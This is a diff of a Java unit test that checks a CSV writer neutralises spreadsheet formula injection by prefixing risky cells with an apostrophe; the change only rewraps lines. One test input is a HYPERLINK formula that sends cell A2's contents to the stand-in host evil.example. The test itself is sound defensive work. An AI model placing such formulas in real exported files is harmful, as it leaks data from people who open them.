@@ -13,13 +13,24 @@ class CsvLinesTest {
 
     @Test
     void a_text_cell_that_a_spreadsheet_would_run_as_a_formula_is_written_as_text() throws IOException {
-        var cells = List.of("=HYPERLINK(\"http://evil.example/?\"&A2;\"voir\")", "+33 cmd", "-2+3", "@SUM(A1)",
-                "\tindent", "\rreturn");
+        var cells = List.of(
+                "=HYPERLINK(\"http://evil.example/?\"&A2;\"voir\")",
+                "+33 cmd",
+                "-2+3",
+                "@SUM(A1)",
+                "\tindent",
+                "\rreturn");
 
         var read = Csv.parse(line(cells)).getFirst();
 
-        assertThat(read).containsExactly("'=HYPERLINK(\"http://evil.example/?\"&A2;\"voir\")", "'+33 cmd", "'-2+3",
-                "'@SUM(A1)", "'\tindent", "'\rreturn");
+        assertThat(read)
+                .containsExactly(
+                        "'=HYPERLINK(\"http://evil.example/?\"&A2;\"voir\")",
+                        "'+33 cmd",
+                        "'-2+3",
+                        "'@SUM(A1)",
+                        "'\tindent",
+                        "'\rreturn");
     }
 
     @Test
